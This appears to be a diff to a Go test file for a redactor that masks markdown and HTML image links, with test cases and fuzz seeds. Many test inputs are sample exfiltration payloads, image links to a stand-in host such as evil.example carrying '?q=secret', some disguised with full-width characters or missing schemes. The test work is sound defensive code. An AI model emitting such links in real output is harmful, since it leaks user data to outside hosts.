@@ -27,10 +27,10 @@ func TestImages(t *testing.T) {
 		{"no scheme", "![x](//evil.example/?q=secret)", mask},
 		{"a long part of the path", "![x](https://evil.example/" + strings.Repeat("a", 60) + "/p.png)", mask},
 		{"a long label of the host", "![x](https://" + strings.Repeat("a", 50) + ".evil.example/p.png)", mask},
-		{"a title", `![x](https://evil.example/?q=secret "t")`, mask + ` "t")`},
-		{"pointed brackets", "![x](<https://evil.example/?q=secret>)", mask + ">)"},
-		{"HTML", `<IMG alt="x" src="https://evil.example/?q=secret">`, mask + `">`},
-		{"HTML without quotes", `<img src=https://evil.example/?q=secret>`, mask + ">"},
+		{"a title", `![x](https://evil.example/?q=secret "t")`, mask},
+		{"pointed brackets", "![x](<https://evil.example/?q=secret>)", mask},
+		{"HTML", `<IMG alt="x" src="https://evil.example/?q=secret">`, mask},
+		{"HTML without quotes", `<img src=https://evil.example/?q=secret>`, mask},
 		{"letters of full width", "！[x]（https://evil.example/?q=secret）", mask},
 		{"an allowed host", "![x](https://cdn.shop.example/p.png?v=3)", "![x](https://cdn.shop.example/p.png?v=3)"},
 		{"below an allowed host", "![x](https://a.img.example/p.png?v=3)", "![x](https://a.img.example/p.png?v=3)"},
@@ -79,6 +79,9 @@ func TestLongAddress(t *testing.T) {
 }
 
 func FuzzStreamEqualsWhole(f *testing.F) {
+	for i, p := range pieces {
+		f.Add("see "+p+" there", uint64(i))
+	}
 	f.Add("a ![x](https://e.example/?q=1) <img src='//e.example/?q'> ![", uint64(1))
 	f.Fuzz(func(t *testing.T, text string, seed uint64) {
 		want := string(redactor().Text(text))
